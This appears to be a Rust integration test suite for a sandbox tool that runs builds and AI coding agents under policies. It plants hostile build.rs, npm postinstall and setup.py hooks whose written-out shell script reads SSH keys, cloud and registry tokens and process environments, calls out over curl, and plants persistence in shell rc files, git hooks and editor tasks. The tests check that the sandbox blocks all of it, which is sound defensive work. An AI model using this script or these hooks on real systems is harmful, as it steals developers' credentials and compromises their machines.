//! Real work with hostile packages in it: each builds, and each theft fails. And the real tools of the presets.

use std::fs;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;

use keyhatch_tests::{Finished, World};

const CANARY: &str = "canary-8417-secret";

/// A home with everything that a thief looks for, a server that must hear nothing, and a project.
struct Scene {
    world: World,
    project: PathBuf,
    listener: TcpListener,
}

impl Scene {
    fn new() -> Self {
        let world = World::new();
        for directory in [".ssh", ".aws", ".config/gh", ".cargo", ".docker"] {
            world.make_directory(&format!("home/{directory}"));
        }
        for file in [
            ".ssh/id_rsa",
            ".aws/credentials",
            ".config/gh/hosts.yml",
            ".cargo/credentials.toml",
            ".npmrc",
            ".pypirc",
            ".netrc",
            ".git-credentials",
            ".docker/config.json",
            ".bashrc",
        ] {
            world.write_mode(&format!("home/{file}"), CANARY, 0o600);
        }
        let project = world.project("p", "https://h.example/p.git");
        world.write("p/.env", CANARY);
        let listener = TcpListener::bind("127.0.0.1:0").expect("a listener on the host");
        listener.set_nonblocking(true).expect("it can be asked");
        Self { world, project, listener }
    }

    /// A shell script that steals all it can and plants what it can; it always succeeds. What it found goes to `loot`.
    fn thief(&self) -> String {
        let port = self.listener.local_addr().expect("an address").port();
        let home = self.world.home().display().to_string();
        format!(
            "exec > loot 2>&1; for f in .ssh/id_rsa .aws/credentials .config/gh/hosts.yml .cargo/credentials.toml .npmrc .pypirc \
             .netrc .git-credentials .docker/config.json .bashrc; do cat {home}/$f; done; cat {project}/.env; env; \
             cat /proc/1/environ; cat /proc/*/environ; ls -A {home}; git config --list; git credential fill </dev/null; \
             ssh-add -l; cat /run/user/*/keyring/*; curl -m 2 -sS http://127.0.0.1:{port}/; \
             curl -m 2 -sS http://192.0.2.1/; echo planted >> {home}/.bashrc; echo planted > {project}/.git/hooks/post-commit; \
             chmod +x {project}/.git/hooks/post-commit; git -C {project} config core.fsmonitor planted; \
             echo planted > {project}/.envrc; mkdir -p {project}/.vscode; echo planted > {project}/.vscode/tasks.json; \
             systemd-run --user true; docker ps; crontab -l; exit 0",
            project = self.project.display()
        )
    }

    fn run(&self, policy: &str, script: &str) -> Finished {
        let mut command = self.world.command(self.world.path("bin/keyhatch"));
        command.current_dir(&self.project).env("GITHUB_TOKEN", CANARY).env("AWS_SECRET_ACCESS_KEY", CANARY);
        command.args(["run", "--policy", policy, "--", "bash", "-c", script]);
        self.world.spawn(command).finish()
    }

    /// Nothing was stolen, nobody was called, nothing that the host runs later was changed.
    #[track_caller]
    fn is_unharmed(&self, loot: &Path) {
        let found = fs::read_to_string(loot).expect("the thief ran");
        assert!(found.len() > 100, "the thief looked around: {found}");
        assert!(!found.contains(CANARY), "{found}");
        assert!(self.listener.accept().is_err(), "nobody called");
        for file in ["home/.bashrc", "p/.env"] {
            assert_eq!(fs::read_to_string(self.world.path(file)).expect("it is there"), CANARY, "{file}");
        }
        for file in [".git/hooks/post-commit", ".vscode/tasks.json", ".envrc"] {
            let text = fs::read_to_string(self.project.join(file)).unwrap_or_default();
            assert!(!text.contains("planted"), "{file}");
        }
        let config = fs::read_to_string(self.project.join(".git/config")).expect("a configuration");
        assert!(!config.contains("planted"), "{config}");
    }

    /// The Rust toolchain of this build, below the user's home as rustup has it.
    fn rust(&self) {
        let found = Command::new("rustc").args(["--print", "sysroot"]).output().expect("rustc runs");
        let sysroot = PathBuf::from(String::from_utf8_lossy(&found.stdout).trim());
        for directory in ["home/.rustup", "home/.rustup/toolchain", "home/.cargo/bin"] {
            self.world.make_directory(directory);
        }
        let toolchain = self.world.home().join(".rustup/toolchain");
        for part in ["bin", "lib"] {
            // Linked where that can be: it is half a gigabyte.
            let linked = Command::new("cp").arg("-rlL").arg(sysroot.join(part)).arg(&toolchain).output();
            if !linked.expect("cp runs").status.success() {
                let copied = Command::new("cp").arg("-rL").arg(sysroot.join(part)).arg(&toolchain).status();
                assert!(copied.expect("cp runs").success());
            }
        }
        for program in ["cargo", "rustc"] {
            let link = self.world.home().join(".cargo/bin").join(program);
            std::os::unix::fs::symlink(format!("../../.rustup/toolchain/bin/{program}"), link)
                .expect("a link");
        }
    }
}

#[test]
fn a_hostile_build_script_builds_and_steals_nothing() {
    let scene = Scene::new();
    scene.rust();
    scene.world.make_directory("p/src");
    scene.world.write("p/Cargo.toml", "[package]\nname = \"p\"\nversion = \"0.1.0\"\nedition = \"2021\"\n");
    scene.world.write("p/src/main.rs", "fn main() { println!(\"built {}\", env!(\"FROM_BUILD\")); }\n");
    let build = format!(
        "fn main() {{ let theft = {:?}; std::process::Command::new(\"bash\").args([\"-c\", theft]).status().unwrap(); \
         println!(\"cargo:rustc-env=FROM_BUILD=fine\"); }}",
        scene.thief()
    );
    scene.world.write("p/build.rs", &build);
    for policy in ["build", "rust"] {
        fs::remove_file(scene.project.join("loot")).ok();
        let ran = scene.run(policy, "cargo build --quiet && ./target/debug/p; rm -rf target");
        assert_eq!((ran.code(), ran.stdout.as_str()), (0, "built fine\n"), "{policy} {ran:?}");
        assert!(!ran.all().contains(CANARY), "{ran:?}");
        scene.is_unharmed(&scene.project.join("loot"));
    }
}

#[test]
fn a_hostile_postinstall_installs_and_steals_nothing() {
    let scene = Scene::new();
    assert!(Path::new("/usr/bin/npm").exists(), "npm is missing: run ./test.sh, which installs it");
    scene.world.make_directory("p/evil");
    scene.world.write("p/evil/steal.sh", &scene.thief());
    scene.world.write("p/evil/index.js", "module.exports = 'installed fine'\n");
    scene.world.write(
        "p/evil/package.json",
        "{\"name\":\"evil\",\"version\":\"1.0.0\",\"main\":\"index.js\",\"scripts\":{\"postinstall\":\"bash steal.sh\"}}",
    );
    scene.world.write("p/package.json", "{\"name\":\"p\",\"version\":\"1.0.0\"}");
    let script = "npm pack --silent ./evil && npm install --no-audit --no-fund --foreground-scripts ./evil-1.0.0.tgz && \
                  node -p 'require(\"evil\")'";
    let ran = scene.run("build", script);
    assert!(ran.status.success() && ran.stdout.ends_with("installed fine\n"), "{ran:?}");
    assert!(!ran.all().contains(CANARY), "{ran:?}");
    scene.is_unharmed(&scene.project.join("node_modules/evil/loot"));
}

#[test]
fn a_hostile_sdist_installs_and_steals_nothing() {
    let scene = Scene::new();
    assert!(Path::new("/usr/bin/pip3").exists(), "python3-pip is missing: run ./test.sh, which installs it");
    scene.world.make_directory("p/evil");
    scene.world.write("p/evil/steal.sh", &scene.thief());
    scene.world.write("p/evil/evil.py", "word = 'installed fine'\n");
    let loot = scene.project.join("loot");
    let setup = format!(
        "import subprocess\nfrom setuptools import setup\nsubprocess.run(['bash', {:?}], cwd={:?})\n\
         setup(name='evil', version='1.0', py_modules=['evil'])\n",
        scene.project.join("evil/steal.sh").display().to_string(),
        scene.project.display().to_string()
    );
    scene.world.write("p/evil/setup.py", &setup);
    let script = "tar czf evil-1.0.tar.gz --transform s/^evil/evil-1.0/ evil && \
                  /usr/bin/pip3 install --quiet --no-build-isolation --no-deps --target py ./evil-1.0.tar.gz && \
                  PYTHONPATH=py /usr/bin/python3 -c 'import evil; print(evil.word)'";
    let ran = scene.run("build", script);
    assert!(ran.status.success() && ran.stdout.ends_with("installed fine\n"), "{ran:?}");
    assert!(!ran.all().contains(CANARY), "{ran:?}");
    scene.is_unharmed(&loot);
}

#[test]
fn real_agents_start_under_their_presets_and_find_their_home_again() {
    for (preset, program, version) in [
        ("claude-code", "claude", "2.1.197"),
        ("codex", "codex", "0.169.0"),
        ("opencode", "opencode", "1.18.33"),
    ] {
        let world = World::new();
        let prefix = keyhatch_tests::downloaded(&format!("{preset}-{version}"));
        let copied =
            Command::new("cp").arg("-al").arg(&prefix).arg(world.home().join(".npm-global")).status();
        assert!(copied.expect("cp runs").success());
        let project = world.project("p", "https://h.example/p.git");
        let script = format!("{program} --version && echo login-canary > ~/.login && ls -A ~ | head -50");
        let first = world.run(&project, preset, &script).ok();
        assert!(first.stdout.contains(version), "{preset} {first:?}");
        let second = world.run(&project, preset, "cat ~/.login; /run/keyhatch-helper status").ok();
        assert!(second.stdout.starts_with("login-canary\n"), "{preset} {second:?}");
        assert!(second.stdout.contains(&format!("policy {preset}: ")), "{preset} {second:?}");
        let other = world.run(&project, "default", "cat ~/.login");
        assert!(!other.stdout.contains("canary"), "{preset} {other:?}");
    }
}

/// Cursor's agent is in no registry: a stand-in, laid out as its installer lays it out.
#[test]
fn what_lies_where_cursors_agent_lies_starts_under_its_preset_and_keeps_its_login() {
    let world = World::new();
    let versions = "home/.local/share/cursor-agent/versions/2026.01.01";
    for directory in ["home/.local", "home/.local/bin", "home/.local/share", "home/.local/share/cursor-agent"]
    {
        world.make_directory(directory);
    }
    let place = world.make_directory(versions);
    let program = "#!/bin/bash\nexec node \"$(dirname \"$(readlink -f \"$0\")\")/index.js\" \"$@\"\n";
    world.write_mode(&format!("{versions}/cursor-agent"), program, 0o755);
    world.write(
        &format!("{versions}/index.js"),
        "const fs = require('fs'), login = process.env.HOME + '/.cursor';\n\
         if (process.argv[2] === 'login') { fs.mkdirSync(login); fs.writeFileSync(login + '/auth.json', 'login-canary'); }\n\
         console.log(fs.readFileSync(login + '/auth.json', 'utf8'));\n",
    );
    std::os::unix::fs::symlink(place.join("cursor-agent"), world.path("home/.local/bin/cursor-agent"))
        .expect("a link");
    let project = world.project("p", "https://h.example/p.git");
    for words in ["login", "status"] {
        let ran = world.run(&project, "cursor-agent", &format!("cursor-agent {words}")).ok();
        assert_eq!(ran.stdout, "login-canary\n", "{words}: {ran:?}");
    }
    assert!(!world.path("home/.cursor").exists(), "the login is the policy's own");
    let refused = world.run(
        &project,
        "cursor-agent",
        "curl -sS https://api.example.org 2>&1; echo; keyhatch-helper status",
    );
    assert!(refused.stdout.contains("**.cursor.sh:443"), "{refused:?}");
    assert!(refused.stderr.contains("api.example.org:443"), "what it may not reach is named: {refused:?}");
}

#[test]
fn aider_starts_under_its_preset_as_pipx_installs_it() {
    let venv = keyhatch_tests::downloaded("aider-0.86.2");
    let world = World::new();
    for directory in ["home/.local", "home/.local/share", "home/.local/share/pipx"] {
        world.make_directory(directory);
    }
    let pipx = world.make_directory("home/.local/share/pipx/venvs");
    let copied = Command::new("cp").arg("-al").arg(&venv).arg(pipx.join("aider-chat")).status();
    assert!(copied.expect("cp runs").success());
    let project = world.project("p", "https://h.example/p.git");
    let script =
        "~/.local/share/pipx/venvs/aider-chat/bin/python -m aider --version; env | grep AIDER | sort";
    let ran = world.run(&project, "aider", script).ok();
    assert_eq!(
        ran.stdout, "__main__.py 0.86.2\nAIDER_ANALYTICS=false\nAIDER_CHECK_UPDATE=false\n",
        "{ran:?}"
    );
}

#[test]
fn chromium_runs_headless_once_it_is_told_that_the_sandbox_is_around_it() {
    let world = World::new();
    let project = world.project("p", "https://h.example/p.git");
    world.write("p/page.html", "<p id=x>six times seven</p><script>x.textContent = 6 * 7</script>");
    let script = "chromium --headless --no-sandbox --disable-gpu --dump-dom file://$PWD/page.html 2>/dev/null; \
                  chromium --headless --disable-gpu --dump-dom file://$PWD/page.html 2>&1 | grep -o 'No usable sandbox'";
    let ran = world.run(&project, "default", script);
    assert!(ran.stdout.contains("<p id=\"x\">42</p>"), "{ran:?}");
    // Its own sandbox wants namespaces, which no command inside can make.
    assert!(ran.stdout.ends_with("No usable sandbox\n"), "{ran:?}");
}

#[test]
fn languages_run_under_their_presets() {
    let world = World::new();
    let project = world.project("p", "https://h.example/p.git");
    let node = world.run(&project, "node", "node -p 6*7").ok();
    assert_eq!(node.stdout, "42\n");
    let venv =
        "/usr/bin/python3 -m venv --without-pip v && ./v/bin/python -c 'import ssl, sqlite3; print(6 * 7)'";
    let python = world.run(&project, "python", venv).ok();
    assert_eq!(python.stdout, "42\n");
}
